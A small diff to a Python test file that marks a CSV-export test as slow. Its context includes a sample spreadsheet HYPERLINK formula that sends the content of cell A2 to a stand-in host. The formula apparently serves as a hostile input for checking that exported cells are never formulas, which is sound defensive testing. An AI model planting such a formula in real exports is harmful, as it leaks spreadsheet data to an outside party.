@@ -86,6 +86,7 @@ def test_the_command_line_refuses_code_in_target_and_reference(tmp_path, monkeyp
 FORMULA = '=HYPERLINK("http://example.invalid/?x="&A2,"点击")'
 
 
+@pytest.mark.slow
 def test_no_exported_cell_is_a_formula(tmp_path):
     import csv
 
